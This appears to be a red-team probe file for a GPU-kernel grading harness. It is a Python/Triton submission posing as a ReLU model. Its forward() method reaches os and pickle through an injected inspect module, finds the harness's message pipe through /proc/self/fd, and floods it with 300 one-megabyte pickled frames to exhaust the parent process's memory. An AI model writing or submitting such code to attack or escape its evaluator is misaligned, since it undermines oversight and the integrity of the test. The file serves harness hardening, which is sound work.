# probes: red team 4 #20: 300 well-formed 1 MB frames on the message pipe grew the parent without bound
# reference: ref_relu.py
# expect: static
# runtime: runtime
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def copy_kernel(src_ptr, dst_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    tl.store(dst_ptr + offs, tl.load(src_ptr + offs, mask=m), mask=m)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        k = copy_kernel
        k.rewriter.rewrite_ast()      # #4: inspect, np, ... injected into our globals

    def forward(self, x):
        os = inspect.os
        pickle = inspect.sys.modules["pickle"]
        out_pipe = os.readlink("/proc/self/fd/1")
        pipes = [fd for fd in range(3, 64) if os.path.lexists("/proc/self/fd/" + str(fd))
                 and os.readlink("/proc/self/fd/" + str(fd)).startswith("pipe:")
                 and os.readlink("/proc/self/fd/" + str(fd)) != out_pipe]
        msg_fd = max(pipes)
        # valid, small-enough frames: the parent appends every one to its message list and
        # only looks at the list when the child has ended (bounded here to 300 MB for the demo;
        # nothing but the 60 s deadline bounds it)
        data = pickle.dumps({"kind": "pad", "blob": "A" * 1000000}, protocol=2)
        frame = len(data).to_bytes(8, "little") + data
        for i in range(300):
            os.write(msg_fd, frame)
        raise RuntimeError("done flooding")
